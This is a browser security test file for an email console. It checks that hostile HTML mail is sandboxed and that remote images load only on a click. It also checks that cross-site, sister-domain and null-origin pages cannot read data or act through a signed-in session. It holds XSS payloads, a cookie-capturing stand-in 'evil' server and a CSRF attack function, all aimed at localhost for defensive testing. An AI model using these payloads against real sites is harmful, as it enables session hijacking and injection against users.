import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { type Browser, chromiumPath, startBrowser } from "../support/browser.ts";
import { startWorld, type World, type WorldInbox } from "../support/world.ts";
import { arrive, consoleOf, goTo, signedIn } from "./support.ts";

/** What browsers sent along to a page of the stranger's. */
const cookies: string[] = [];
/** Another address of the house's name, which is the stranger's. */
const sisterOf = (house: string) => Object.assign(new URL("/cookie", house), { port: String(stranger.port) }).href;

/** What a stranger may find in our pages: it is told of each request. */
const reached: string[] = [];
const stranger = Bun.serve({
  port: 0,
  fetch(request) {
    const { pathname } = new URL(request.url);
    if (pathname === "/page")
      return new Response("<p>A page of a stranger</p>", { headers: { "content-type": "text/html" } });
    if (pathname === "/cookie") cookies.push(request.headers.get("cookie") ?? "");
    else reached.push(pathname);
    return new Response("");
  },
});
const evil = `http://127.0.0.1:${stranger.port}`;

const hostile: readonly string[] = [
  `<script>top.location="${evil}/top"</script><script src="${evil}/s.js"></script><img src=x onerror="alert(1)">`,
  `<meta http-equiv=refresh content="0;url=${evil}/refresh"><base href="${evil}/" target=_top><a href="x">x</a>`,
  `<style>@import url(${evil}/css);body{background:url(${evil}/bg)}</style><div style="position:fixed;inset:0;z-index:9999">over</div>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data="${evil}/o"></object><svg onload=alert(1)></svg>`,
  `<form action="${evil}/form"><button autofocus>Go</button></form><img src="${evil}/pixel"><link rel=stylesheet href="${evil}/l">`,
];

describe.skipIf(chromiumPath === undefined)("The console's walls", () => {
  let browser: Browser;
  let world: World;
  let ada: WorldInbox;
  beforeAll(async () => {
    [browser, world] = await Promise.all([startBrowser(), startWorld()]);
    ada = await world.inbox("ada");
  }, 60_000);
  afterAll(async () => {
    await browser?.[Symbol.asyncDispose]();
    await world?.[Symbol.asyncDispose]();
    await stranger.stop(true);
  });

  test("hold hostile mail: it asks nobody, says nothing, leads nowhere, and the page stays usable", async () => {
    const { page } = await signedIn(browser, world);
    const dialogs: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    for (const html of hostile) {
      const threadId = await arrive(world, ada, { subject: "Look", html: `${html}<p>the end</p>` });
      await goTo(page, world, `threads/${threadId}`);
      await page.frameLocator(".paper iframe").getByText("the end").waitFor();
    }
    await page.getByRole("button", { name: "Mark read" }).click();
    await page.getByRole("button", { name: "Mark unread" }).waitFor();
    expect(page.url()).toStartWith(consoleOf(world).href);
    expect([dialogs, reached]).toEqual([[], []]);
    const sandbox = await page.locator(".paper iframe").getAttribute("sandbox");
    expect(sandbox).not.toContain("allow-scripts");
    expect(sandbox).not.toContain("allow-top-navigation");
  });

  test("show remote pictures at a click alone, and for this message alone", async () => {
    const threadId = await arrive(world, ada, { subject: "Picture", html: `<p>it</p><img src="${evil}/seen">` });
    const { page } = await signedIn(browser, world, `threads/${threadId}`);
    await page.frameLocator(".paper iframe").getByText("it").waitFor();
    expect(reached).toEqual([]);
    const asked = page.waitForRequest(`${evil}/seen`);
    await page.getByRole("button", { name: "Show remote images (1)" }).click();
    await asked;
  });

  test("let pages of a sister domain, pages without an origin and pictures change nothing and read nothing", async () => {
    // Of one site: the browser sends the cookie along.
    const house = `http://app.inboxd.localhost:${world.service.apiUrl.port}`;
    const { page } = await browser.open(`${house}/console/`);
    await page.fill("#key", world.apiKey);
    await page.press("#key", "Enter");
    await page.locator("#navigation").waitFor({ state: "attached" });
    const before = (await world.api("/v1/inboxes")).body.total;
    await page.goto(`http://evil.inboxd.localhost:${stranger.port}/page`);
    const answers: string[] = [];
    page.on("response", (response) => {
      const { pathname, origin } = new URL(response.url());
      if (origin === house) answers.push(`${response.request().method()} ${pathname} ${response.status()}`);
    });
    // A cookie knows no ports: so the stranger sees at the house's name what the browser sends along.
    await page.evaluate((address) => fetch(address, { mode: "no-cors", credentials: "include" }), sisterOf(house));
    expect(cookies.at(-1)).toContain("inboxd=ibt_");
    await page.evaluate(attack, house);
    expect(answers.filter((answer) => !/ 40[13]$/.test(answer))).toEqual([]);
    expect(new Set(answers.map((answer) => answer.split(" ", 2).join(" ")))).toEqual(
      new Set(["GET /v1/inboxes", "POST /v1/inboxes", "POST /console/session"]),
    );
    expect((await world.api("/v1/inboxes")).body.total).toBe(before);
    await page.goto(`${house}/console/`);
    await page.getByRole("heading", { name: "Overview" }).waitFor();
  });

  test("let a foreign page change and read nothing by the session of its visitor", async () => {
    const { page } = await signedIn(browser, world);
    await page.goto(`${evil}/page`);
    const { origin } = world.service.apiUrl;
    const read = await page.evaluate(async (house) => {
      const answers: string[] = [];
      const body = JSON.stringify({ username: "stolen" });
      for (const mode of ["no-cors", "cors"] as const) {
        for (const method of ["GET", "POST"]) {
          const init = { method, mode, credentials: "include", ...(method === "POST" && { body }) } as RequestInit;
          const answer = await fetch(`${house}/v1/inboxes`, init).then(
            (response) => response.text(),
            () => "",
          );
          answers.push(answer);
        }
      }
      return answers;
    }, origin);
    expect(read).toEqual(["", "", "", ""]);
    await page.evaluate((house) => {
      const form = Object.assign(document.createElement("form"), { method: "post", action: `${house}/v1/inboxes` });
      document.body.append(form);
      form.submit();
    }, origin);
    await page.waitForURL(`${origin}/v1/inboxes`);
    expect((await world.api("/v1/inboxes")).body.total).toBe(1);
  });
});

/** Runs in a page of a stranger: whatever a page can send to another without being asked first. */
async function attack(house: string): Promise<void> {
  const begun = { mode: "no-cors", credentials: "include" } as const;
  const key = JSON.stringify({ key: "key-of-the-first-account-in-tests" });
  await fetch(`${house}/v1/inboxes`, begun);
  await fetch(`${house}/v1/inboxes`, { ...begun, method: "POST" });
  await fetch(`${house}/v1/inboxes`, { ...begun, method: "POST", body: "{}" });
  await fetch(`${house}/console/session`, { ...begun, method: "POST", body: key });
  await new Promise((resolve) => {
    Object.assign(new Image(), { onload: resolve, onerror: resolve, src: `${house}/v1/inboxes` });
  });
  await new Promise((resolve) => {
    const script = document.createElement("script");
    Object.assign(script, { onload: resolve, onerror: resolve, src: `${house}/v1/inboxes` });
    document.body.append(script);
  });
  // Its origin is null, and that of what it sends.
  await new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.srcdoc = `<script>
      const begun = { mode: "no-cors", credentials: "include", method: "POST" };
      fetch("${house}/v1/inboxes", begun).then(() => fetch("${house}/console/session", { ...begun, body: '${key}' }))
        .finally(() => parent.postMessage("done", "*"));
    </script>`;
    addEventListener("message", resolve, { once: true });
    document.body.append(frame);
  });
}
